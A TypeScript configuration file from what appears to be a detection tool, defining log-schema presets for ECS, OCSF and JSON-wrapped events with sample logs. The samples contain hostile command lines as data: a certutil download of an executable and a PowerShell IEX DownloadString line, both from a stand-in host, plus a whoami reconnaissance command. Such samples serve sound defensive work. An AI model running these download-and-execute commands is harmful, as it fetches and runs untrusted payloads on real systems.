import { asItComes, type LogSourcePreset } from './log-source-preset.ts';

/** Schemas that many products write, and envelopes around them. */
export const schemaPresets: readonly LogSourcePreset[] = [
  {
    id: 'ecs',
    name: 'Elastic Common Schema',
    description:
      'Events in ECS, such as those of Elastic Defend: category, type and `host.os.type` tell the log source; the fields count as those of Sysmon.',
    ...asItComes,
    example: {
      '@timestamp': '2026-11-20T12:00:01.123Z',
      ecs: { version: '8.11.0' },
      event: { category: ['process'], type: ['start'] },
      host: { os: { type: 'windows' } },
      process: {
        executable: 'C:\\Windows\\System32\\certutil.exe',
        command_line: 'certutil -urlcache -f http://192.0.2.7/x x.exe',
        parent: { executable: 'C:\\Windows\\System32\\cmd.exe' },
      },
    },
  },
  {
    id: 'ocsf',
    name: 'OCSF',
    description: 'Events of the Open Cybersecurity Schema Framework, such as those of Security Lake.',
    ...asItComes,
    example: {
      class_uid: 1007,
      activity_id: 1,
      device: { hostname: 'ws7', os: { type_id: 100 } },
      process: { cmd_line: 'whoami /all', file: { path: 'C:\\Windows\\System32\\whoami.exe' } },
    },
  },
  {
    id: 'json-in-message',
    name: 'JSON in the field message',
    description:
      'Any of these within an envelope, as Filebeat and Fluent Bit send lines of JSON: the members of `message` are put beside it.',
    script: 'parse_json(field="message")',
    mapping: {},
    example: {
      '@timestamp': '2026-11-20T12:00:01.123Z',
      agent: { type: 'filebeat' },
      message:
        '{"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.7/x\')"}',
    },
  },
];
